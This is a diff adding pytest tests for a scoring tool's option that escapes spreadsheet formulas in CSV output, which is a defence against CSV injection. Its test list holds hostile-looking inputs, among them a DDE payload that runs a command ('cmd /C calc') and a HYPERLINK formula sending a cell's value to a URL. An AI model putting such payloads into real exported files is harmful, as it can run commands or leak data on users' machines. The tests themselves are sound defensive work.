@@ -4,6 +4,7 @@
 |------------------|----------------------------------------------------------------|
 | all columns      | kept, in their order, before what is added                     |
 | a bad row        | nothing is written; or all but it, and it is listed by its line |
+| a formula        | kept; or escaped for a spreadsheet                             |
 | 20 times as long | the same memory                                                |
 """
 
@@ -12,9 +13,11 @@ import gzip
 import json
 import subprocess
 import sys
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
+import pandas
 import pytest
 from click.testing import CliRunner
 
@@ -187,6 +190,92 @@ def test_the_command_reports_what_was_left_out(model: Path, tmp_path: Path) -> N
     assert done.exit_code == 0
     assert "left out line 6: not UTF-8" in done.stderr
     assert "scored 3 rows" in done.stderr
+
+
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("https://example.com/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",  # noqa: RUF001
+    "-",
+    "-1.5.6",
+    "+49 30 1234",
+    "-inf",
+    "= not a formula",
+]
+PLAIN = [
+    "carriage\rreturn",
+    "line\nfeed",
+    "-1.5",
+    "+2",
+    "-3e-5",
+    "-.5",
+    "0.25",
+    "",
+    "1-2",
+    "a=b",
+    "'quoted",
+    "good, not bad",
+    " =1",
+]
+
+
+def table(texts: list[str]) -> list[dict[str, Any]]:
+    return [{"id": str(number), "text": text, "=note": text} for number, text in enumerate(texts)]
+
+
+@pytest.mark.parametrize("of", ["in.csv", "in.jsonl"])
+@pytest.mark.parametrize("to", ["out.csv", "out.csv.gz"])
+def test_formulas_are_kept_unless_they_are_to_be_escaped(of: str, to: str, model: Path, tmp_path: Path) -> None:
+    data = write(tmp_path / of, table(FORMULAS + PLAIN))
+    score(model, data, tmp_path / to)
+    assert [row["text"] for row in read(tmp_path / to)] == FORMULAS + PLAIN
+    score(model, data, tmp_path / to, escape_formulas=True)
+    escaped = [f"'{text}" for text in FORMULAS]
+    rows = read(tmp_path / to)
+    assert [row["text"] for row in rows] == [row["'=note"] for row in rows] == escaped + PLAIN
+    assert list(rows[0]) == ["id", "text", "'=note", "predicted_label", "predicted_probability"]
+    frame = pandas.read_csv(tmp_path / to, keep_default_na=False, dtype={"text": str})
+    assert list(frame["text"]) == escaped + PLAIN
+    assert frame["predicted_probability"].dtype == float
+
+
+def test_an_escaped_table_has_no_cell_that_a_spreadsheet_evaluates(tmp_path: Path) -> None:
+    write_model(tmp_path / "model.safetensors", replace(two_classes(), labels=("=negative", "@positive")))
+    rows = [{"text": "good", "rate": -1.5, "more": ["=1"]}, {"text": "bad", "rate": -2, "more": "-x"}]
+    score(tmp_path, write(tmp_path / "in.jsonl", rows), tmp_path / "out.csv", every_label=True, escape_formulas=True)
+    with (tmp_path / "out.csv").open(newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert [cell for cell in cells if cell[:1] in "=+@\t\r\n＝＋－＠" and cell] == []  # noqa: RUF001
+    assert [cell for cell in cells if cell.startswith("-")] == ["-1.5", "-2"]
+    assert list(pandas.read_csv(tmp_path / "out.csv")["rate"]) == [-1.5, -2.0]
+    assert "'=negative" in cells
+    assert "'@positive" in cells
+
+
+@pytest.mark.parametrize("name", ["out.jsonl", "OUT.JSONL.GZ"])
+def test_formulas_are_not_escaped_where_nothing_evaluates_them(name: str, model: Path, tmp_path: Path) -> None:
+    data = write(tmp_path / "in.csv", table(FORMULAS))
+    with pytest.raises(DataError, match=f"escaped in CSV only, and {name} is JSON Lines: leave out --escape-formulas"):
+        score(model, data, tmp_path / name, escape_formulas=True)
+    assert not (tmp_path / name).exists()
+    score(model, data, tmp_path / name)
+    if name == "out.jsonl":
+        assert [row["text"] for row in read(tmp_path / name)] == FORMULAS
+
+
+def test_the_command_escapes_formulas_and_its_help_has_the_reason(model: Path, tmp_path: Path) -> None:
+    data = write(tmp_path / "in.csv", table(["=1+1"]))
+    files = ["--model", str(model), "--data", str(data), "--out", str(tmp_path / "out.csv")]
+    assert CliRunner().invoke(main, ["score", *files, "--escape-formulas"]).exit_code == 0
+    assert read(tmp_path / "out.csv")[0]["text"] == "'=1+1"
+    words = " ".join(CliRunner().invoke(main, ["score", "--help"]).output.split())
+    assert "A spreadsheet evaluates a cell such as =1+1 as a formula" in words
 
 
 @pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="asks Linux for the peak")
